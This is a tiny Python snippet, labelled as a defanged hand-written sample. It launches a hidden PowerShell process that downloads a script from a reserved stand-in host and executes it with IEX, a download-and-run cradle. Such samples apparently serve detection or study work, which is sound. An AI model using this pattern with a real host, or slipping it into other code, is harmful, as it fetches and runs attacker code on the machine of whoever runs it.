# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import subprocess

subprocess.call(
    "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('https://payload.invalid/a.ps1')",
    shell=True,
)
